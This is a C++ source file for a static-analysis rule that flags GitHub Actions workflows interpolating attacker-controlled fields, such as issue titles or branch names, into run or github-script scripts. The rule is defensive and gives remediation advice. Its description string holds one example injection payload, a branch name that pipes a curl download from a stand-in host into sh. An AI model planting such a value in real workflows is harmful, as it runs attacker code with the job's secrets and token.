// GHA-SCRIPT-INJECTION: `${{ github.event.issue.title }}` in a `run:` script (or an
// actions/github-script `script:`) is pasted into the script before it runs, so the issue's
// author writes shell (or JavaScript) code that runs with the job's secrets.
#include <string>

#include "coconut/policy/rules/github/workflow.hpp"

namespace coconut::policy::rules::github {
namespace {

RuleInfo injection_info() {
    RuleInfo r = workflow_rule("GHA-SCRIPT-INJECTION", "Untrusted input interpolated into a script", Severity::High);
    r.description =
        "GitHub expands `${{ … }}` expressions before the shell (or actions/github-script's JavaScript) sees "
        "the script, so the value becomes code. Contexts that outsiders control — issue, pull request, "
        "discussion, comment and review titles and bodies, commit messages and author names and e-mails, "
        "branch names (`github.head_ref`, `pull_request.head.ref`, `workflow_run.head_branch`), page names — "
        "let anyone who can open an issue or a pull request run commands with the job's secrets and "
        "GITHUB_TOKEN (e.g. a branch named `a\";curl${IFS}evil.sh|sh;#`). Whole objects that contain such "
        "fields (`toJSON(github.event.pull_request)`) count too. Numbers, SHAs and logins are safe and not "
        "reported. Each interpolation is reported at its position in the script.";
    r.remediation =
        "Pass the value through an environment variable and quote it in the script: `env: {TITLE: ${{ "
        "github.event.issue.title }}}` then `run: echo \"$TITLE\"` (in github-script: `process.env.TITLE`).";
    // Not zizmor's template-injection (it grades every expression in a script, inputs and env included)
    // nor actionlint's expression (its expression checks of every kind).
    r.aliases = {"checkov:CKV_GHA_2"};
    r.compliance = {cref("soc2", "CC6.8"), cref("soc2", "CC8.1")};
    return r;
}

class GhaScriptInjection : public BasicRule {
public:
    GhaScriptInjection() : BasicRule(injection_info()) {}

    void check(const Document& doc, const CheckContext&, Reporter& out) const override {
        for (const Job& job : jobs(doc))
            for (const Step& step : job.steps) {
                if (step.run != nullptr && step.run->is_scalar())
                    scan(doc, step.run, "run script of " + step.label() + " of " + job.label(), out);
                if (step.action() == "actions/github-script") {
                    const yaml::Node* script = get(step.with, "script");
                    if (script != nullptr && script->is_scalar())
                        scan(doc, script, "github-script of " + step.label() + " of " + job.label(), out);
                }
            }
    }

private:
    static void scan(const Document& doc, const yaml::Node* node, const std::string& where, Reporter& out) {
        for (const auto& e : expressions(node->text))
            for (const auto& path : value_context_paths(e.body)) {
                if (!is_untrusted_context(path)) continue;
                out.report_at(doc, mark_at(doc, node, e.offset, e.length),
                              "the " + where + " interpolates the attacker-controlled " + path +
                                  "; pass it through env: and quote the variable");
                break;  // one finding per expression
            }
    }
};

}  // namespace

COCONUT_REGISTER_RULE(GhaScriptInjection);

}  // namespace coconut::policy::rules::github
